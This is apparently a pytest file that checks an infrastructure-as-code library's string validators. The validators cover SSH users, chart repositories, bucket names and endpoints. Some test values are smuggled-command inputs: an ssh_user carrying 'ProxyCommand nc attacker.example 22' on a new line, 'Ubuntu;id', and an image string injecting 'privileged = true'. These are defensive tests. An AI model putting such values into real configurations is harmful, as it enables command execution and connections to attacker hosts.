"""Strings that become names, users, paths or URLs have a pattern, matched whole: a trailing
newline, a space, a scheme or credentials where none belong are refused, from environment
files and from Python alike."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import cdktf
import pytest
from cdktf import TerraformStack

from constructs_lib import (
    Bastion,
    ConstructArgumentError,
    Network,
    RunnerFleet,
    SecurityGroup,
    SshKeyPair,
    StateBackend,
    SubnetSpec,
)
from constructs_lib import _validate as check
from environment_loader import EnvironmentConfigError, load_environment
from stacks.app import synth
from tests._env_edit import set_key, set_or_add

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0Vbw2SmHb4vJ7cfX2hKqV0M0QvSx8Rt3wq4hN8kYJv test"
CHART = 'helm_release "app" {{\n  repository = {repository}\n  chart = "app"\n  version = {version}\n  namespace = {namespace}\n}}\n'


def _release(
    repository: str = '"https://charts.example.com"', version: str = '"1.0.0"', namespace: str = '"apps"'
) -> str:
    return CHART.format(repository=repository, version=version, namespace=namespace)


# (environment, replacements, appended text, key path in the error, words of the error)
LOAD_CASES: dict[str, tuple[str, tuple[tuple[str, str], ...], str, str, str]] = {
    "ssh_user with a ProxyCommand on a new line": (
        "ha",
        (set_key("ha", "ssh_user", '"ubuntu\\n  ProxyCommand nc attacker.example 22"'),),
        "",
        "bastion.ssh_user",
        "control character U+000A",
    ),
    "node group name ending in a newline": (
        "simple",
        (),
        'node_group "w\\n" {\n  role = "worker"\n  flavor = "f"\n  count = 1\n}\n',
        "node_group.w\\n",
        "control character U+000A in a key",
    ),
    "role ending in a newline": (
        "simple",
        (),
        'node_group "w" {\n  role = "worker\\n"\n  flavor = "f"\n  count = 1\n}\n',
        "node_group.w.role",
        "control character U+000A",
    ),
    "subnet name ending in a newline": (
        "simple",
        (('subnet "nodes"', 'subnet "nodes\\n"'),),
        "",
        "network.subnet.nodes\\n",
        "control character",
    ),
    "kubernetes_version ending in a newline": (
        "simple",
        (set_key("simple", "kubernetes_version", '"1.30.4\\n"'),),
        "",
        "cluster.kubernetes_version",
        "control character U+000A",
    ),
    "chart version ending in a newline": (
        "simple",
        (),
        _release(version='"1.0.0\\n"'),
        "helm_release.app.version",
        "control character U+000A",
    ),
    "image_registry ending in a newline": (
        "simple",
        (),
        'platform {\n  image_registry = "harbor.internal\\n"\n}\n',
        "platform.image_registry",
        "control character U+000A",
    ),
    "carriage return in a flavor": (
        "ha",
        (set_key("ha", "flavor", '"SL1.1-1024\\r"'),),
        "",
        "bastion.flavor",
        "control character U+000D",
    ),
    "tab in a description": (
        "simple",
        (set_key("simple", "description", '"a\\tb"'),),
        "",
        "description",
        "control character U+0009",
    ),
    "escape character through a unicode escape": (
        "simple",
        (set_key("simple", "description", '"\\u001b[31mred"'),),
        "",
        "description",
        "control character U+001B",
    ),
    "image_registry with a scheme": (
        "simple",
        (),
        'platform {\n  image_registry = "https://harbor.internal"\n}\n',
        "platform.image_registry",
        "no scheme",
    ),
    "chart repository of another scheme": (
        "simple",
        (),
        _release(repository='"ftp://charts.example.com"'),
        "helm_release.app.repository",
        "https:// or http:// or oci://",
    ),
    "chart repository with credentials": (
        "simple",
        (),
        _release(repository='"https://robot:s3cret@charts.example.com"'),
        "helm_release.app.repository",
        "no credentials",
    ),
    "chart repository with a space": (
        "simple",
        (),
        _release(repository='"https://charts.example.com/a b"'),
        "helm_release.app.repository",
        "no credentials, spaces",
    ),
    "chart repository without a host": (
        "simple",
        (),
        _release(repository='"oci://"'),
        "helm_release.app.repository",
        "the host (empty) is not a DNS name",
    ),
    "addon repository with a query": (
        "simple",
        (),
        'addon "traefik" {\n  repository = "https://charts.example.com/?x=1"\n}\n',
        "addon.traefik.repository",
        "query",
    ),
    "chart given as a URL with credentials": (
        "simple",
        (),
        _release().replace('chart = "app"', 'chart = "https://robot:s3cret@charts.example.com/app-1.0.0.tgz"'),
        "helm_release.app.chart",
        "a chart name",
    ),
    "depends_on naming no release": (
        "simple",
        (),
        _release().replace('namespace = "apps"', 'namespace = "apps"\n  depends_on = ["a b"]'),
        "helm_release.app.depends_on",
        "lowercase letters",
    ),
    "chart version range": ("simple", (), _release(version='">=1.0.0"'), "helm_release.app.version", "exact"),
    "namespace in capitals": ("simple", (), _release(namespace='"Apps"'), "helm_release.app.namespace", "lowercase"),
    "sensitive variable name with a dash": (
        "simple",
        (),
        'addon "cert-manager" {\n  sensitive_values = { "a.b" = "bad-name" }\n}\n',
        "addon.cert-manager.sensitive_values.a.b",
        "a variable name",
    ),
    "bucket with capitals": (
        "simple",
        (set_key("simple", "bucket", '"Platform_State"'),),
        "",
        "backend.bucket",
        "S3 bucket name",
    ),
    "bucket in IP form": (
        "simple",
        (set_key("simple", "bucket", '"192.168.10.20"'),),
        "",
        "backend.bucket",
        "not an IP",
    ),
    "bucket too short": ("simple", (set_key("simple", "bucket", '"ab"'),), "", "backend.bucket", "3-63"),
    "bucket too long": ("simple", (set_key("simple", "bucket", '"' + "a" * 64 + '"'),), "", "backend.bucket", "3-63"),
    "bucket with two dots": ("simple", (set_key("simple", "bucket", '"a..b"'),), "", "backend.bucket", "S3 bucket"),
    "endpoint without a scheme": (
        "simple",
        (set_key("simple", "endpoint", '"s3.example.com"'),),
        "",
        "backend.endpoint",
        "https://",
    ),
    "endpoint with credentials": (
        "simple",
        (set_key("simple", "endpoint", '"https://AKIA:secret@s3.example.com"'),),
        "",
        "backend.endpoint",
        "no credentials",
    ),
    "region with a space": ("simple", (set_key("simple", "region", '"ru 1"'),), "", "openstack.region", "letters"),
    "region with a slash": ("simple", (set_key("simple", "region", '"ru-1/../x"'),), "", "openstack.region", "letters"),
    "auth_url without a scheme": (
        "simple",
        (set_key("simple", "auth_url", '"cloud.example.com/identity/v3"'),),
        "",
        "openstack.auth_url",
        "https://",
    ),
    "availability zone with a space": (
        "simple",
        (set_or_add("simple", "openstack {", "availability_zone", '"ru 7a"'),),
        "",
        "openstack.availability_zone",
        "letters",
    ),
    "description too long": (
        "simple",
        (set_key("simple", "description", '"' + "x" * 256 + '"'),),
        "",
        "description",
        "1 to 255 characters",
    ),
}


@pytest.mark.parametrize("case", sorted(LOAD_CASES))
def test_strings_are_checked_when_the_file_is_loaded(case: str, env_dir: Callable[..., Path]) -> None:
    name, replace, append, key, words = LOAD_CASES[case]
    directory = env_dir(name, replace, "\n" + append)
    with pytest.raises(EnvironmentConfigError) as err:
        load_environment(directory / f"{name}.hcl")
    message = str(err.value)
    assert message.startswith(f"{directory / name}.hcl:")
    assert f": {key}: " in message
    assert words in message
    assert "\n" not in message and "\r" not in message


# Checked by the constructs the stacks build: (replacements in ha.hcl, key path, words).
BUILD_CASES: dict[str, tuple[tuple[tuple[str, str], ...], str, str]] = {
    "ssh_user not a POSIX name": ((set_key("ha", "ssh_user", '"Ubuntu;id"'),), "bastion.ssh_user", "a user name"),
    "flavor with a leading space": ((set_key("ha", "flavor", '" SL1.1-1024"'),), "bastion.flavor", "leading"),
    "runner tag with a comma": ((set_key("ha", "tags", '["werf,docker"]'),), "runners.tags", "without commas"),
    "runner image with a quote": (
        (set_key("ha", "executor", '"docker"\n  docker_image = "alpine\\" privileged = true"'),),
        "runners.docker_image",
        "an image reference",
    ),
    "GitLab URL with credentials": (
        (set_key("ha", "gitlab_url", '"https://root:pw@gitlab.example.com"'),),
        "runners.gitlab_url",
        "no credentials",
    ),
}


@pytest.mark.parametrize("case", sorted(BUILD_CASES))
def test_strings_are_checked_by_the_constructs(case: str, env_dir: Callable[..., Path], tmp_path: Path) -> None:
    replace, key, words = BUILD_CASES[case]
    directory = env_dir("ha", replace)
    with pytest.raises(EnvironmentConfigError) as err:
        synth(directory, tmp_path / "cdktf.out")
    message = str(err.value)
    assert f": {key}: " in message and words in message
    assert "\n" not in message
    assert not (tmp_path / "cdktf.out").exists()


def _stack() -> TerraformStack:
    return TerraformStack(cdktf.Testing.app(), "test")


def _network(stack: TerraformStack, **overrides: Any) -> Network:
    args: dict[str, Any] = dict(name="env", subnets=[SubnetSpec("nodes", "10.0.0.0/24")], external_network="ext")
    args.update(overrides)
    return Network(stack, "network", **args)


def _bastion(stack: TerraformStack, **overrides: Any) -> Bastion:
    args: dict[str, Any] = dict(
        network=_network(stack),
        keypair=SshKeyPair(stack, "keypair", name="admin", public_key=KEY),
        flavor="f",
        image="i",
        ssh_allowed_cidrs=["192.0.2.0/24"],
    )
    args.update(overrides)
    return Bastion(stack, "bastion", **args)


def _runners(stack: TerraformStack, **overrides: Any) -> RunnerFleet:
    args: dict[str, Any] = dict(
        network=_network(stack),
        keypair=SshKeyPair(stack, "keypair", name="admin", public_key=KEY),
        count=1,
        flavor="f",
        image="i",
        gitlab_url="https://gitlab.example.com",
        group_id=1,
    )
    args.update(overrides)
    return RunnerFleet(stack, "runners", **args)


def _backend(**fields: Any) -> None:
    StateBackend(**{"bucket": "state", "endpoint": "https://s3.example.com", **fields}).apply(
        TerraformStack(cdktf.App(), "env-infra"), "env-infra"
    )


PYTHON_CASES: dict[str, tuple[Callable[[], object], str]] = {
    "ssh_user with a ProxyCommand": (
        lambda: _bastion(_stack(), ssh_user="ubuntu\n  ProxyCommand nc attacker.example 22"),
        "ssh_user",
    ),
    "ssh_user ending in a newline": (lambda: _bastion(_stack(), ssh_user="ubuntu\n"), "ssh_user"),
    "ssh_user too long": (lambda: _bastion(_stack(), ssh_user="u" * 33), "ssh_user"),
    "bastion image with a trailing space": (lambda: _bastion(_stack(), image="Ubuntu "), "image"),
    "bastion flavor empty": (lambda: _bastion(_stack(), flavor=""), "flavor"),
    "bastion flavor too long": (lambda: _bastion(_stack(), flavor="f" * 256), "flavor"),
    "availability zone with a newline": (lambda: _bastion(_stack(), availability_zone="ru-7a\n"), "availability_zone"),
    "runner fleet name ending in a newline": (lambda: _runners(_stack(), name="ci\n"), "name"),
    "runner GitLab URL with a newline": (
        lambda: _runners(_stack(), gitlab_url="https://gitlab.example.com\n"),
        "gitlab_url",
    ),
    "runner GitLab URL with a quote": (
        lambda: _runners(_stack(), gitlab_url='https://gitlab.example.com/"x'),
        "gitlab_url",
    ),
    "runner tag ending in a newline": (lambda: _runners(_stack(), tags=["werf\n"]), "tags"),
    "runner image with credentials": (
        lambda: _runners(_stack(), docker_image="robot:s3cret@registry.example.com/ci/image:1"),
        "docker_image",
    ),
    "runner image in capitals": (lambda: _runners(_stack(), docker_image="Alpine:3"), "docker_image"),
    "network name ending in a newline": (lambda: _network(_stack(), name="env\n"), "name"),
    "subnet name ending in a newline": (
        lambda: _network(_stack(), subnets=[SubnetSpec("nodes\n", "10.0.0.0/24")]),
        "subnets['nodes\\n'].name",
    ),
    "CIDR with a trailing newline": (
        lambda: _network(_stack(), subnets=[SubnetSpec("nodes", "10.0.0.0/24\n")]),
        "subnets['nodes'].cidr",
    ),
    "security group name with a newline": (lambda: SecurityGroup(_stack(), "g", name="g\nx"), "name"),
    "public key with a second line": (
        lambda: SshKeyPair(_stack(), "k", name="k", public_key=KEY + "\n" + KEY),
        "public_key",
    ),
    "public key of another type": (
        lambda: SshKeyPair(_stack(), "k", name="k", public_key=KEY.replace("ssh-ed25519", "ssh-rsa", 1)),
        "public_key",
    ),
    "public key not base64": (
        lambda: SshKeyPair(_stack(), "k", name="k", public_key="ssh-ed25519 not*base64 x"),
        "public_key",
    ),
    "bucket ending in a newline": (lambda: _backend(bucket="state\n"), "backend.bucket"),
    "bucket in IP form": (lambda: _backend(bucket="10.0.0.1"), "backend.bucket"),
    "endpoint with credentials": (lambda: _backend(endpoint="https://a:b@s3.example.com"), "backend.endpoint"),
    "key prefix with a slash": (lambda: _backend(key_prefix="env/../other"), "backend.key_prefix"),
    "local dir climbing out": (lambda: _backend(kind="local", local_dir="../elsewhere"), "backend.local_dir"),
}


@pytest.mark.parametrize("case", sorted(PYTHON_CASES))
def test_constructs_refuse_bad_strings_from_python(case: str) -> None:
    build, argument = PYTHON_CASES[case]
    with pytest.raises(ConstructArgumentError) as err:
        build()
    assert err.value.argument == argument


@pytest.mark.parametrize(
    ("rule", "good", "bad"),
    [
        (check.name, "nodes-1", ["nodes\n", "Nodes", "-a", "a" * 64, ""]),
        (check.posix_user, "ubuntu", ["ubuntu\n", "Ubuntu", "1user", "a b", "u" * 33, "root$"]),
        (check.region, "ru-1", ["ru-1\n", "ru 1", "-ru", "a" * 65, "ru/1"]),
        (check.availability_zone, "ru-7a", ["ru-7a\n", "ru 7a", ""]),
        (check.chart_version, "v1.21.1", ["1.21.1\n", "1.x", "~1.2.3", "1.2"]),
        (check.chart_name, "kube-prometheus-stack", ["app\n", "https://h/app.tgz", "a/b", "a b", "a" * 65]),
        (check.variable_name, "grafana_password", ["grafana_password\n", "Grafana", "a-b", "1a"]),
        (check.image_registry, "harbor.internal:5000/proxy", ["harbor.internal\n", "https://h", "h/Upper", "h p"]),
        (check.bucket_name, "platform-state", ["platform-state\n", "ab", "1.2.3.4", "a..b", "a-.b", "UP"]),
        (check.url, "https://s3.example.com/path", ["https://s3.example.com\n", "ftp://x", "https://", "https://h#f"]),
        (check.repository, "oci://harbor.internal/charts", ["oci://harbor.internal/charts\n", "s3://b", "oci://u@h"]),
        (check.text, "Ubuntu 24.04 LTS 64-bit", ["x\n", " x", "x ", "", "a\x00b", "a\u2028b", "x" * 256]),
    ],
)
def test_check_functions_match_whole_strings(
    rule: Callable[[str, str, Any], object], good: str, bad: list[str]
) -> None:
    assert rule("p", "a", good) == good
    for value in bad:
        with pytest.raises(ConstructArgumentError):
            rule("p", "a", value)


@pytest.mark.parametrize(
    ("written", "loaded"),
    [
        (r'"caf\u00e9"', "café"),
        (r'"\U0001F600"', "\U0001f600"),
        (r'"a\\nb"', "a\\nb"),
        (r'"say \"hi\""', 'say "hi"'),
        (r'"back\\\\slash"', "back\\\\slash"),
    ],
)
def test_string_escapes_are_decoded_once(written: str, loaded: str, env_dir: Callable[..., Path]) -> None:
    """HCL's escapes in one pass: an escaped backslash before 'n' is not a newline."""
    directory = env_dir("simple", (set_key("simple", "description", written),))
    config, _ = load_environment(directory / "simple.hcl")
    assert config.description == loaded
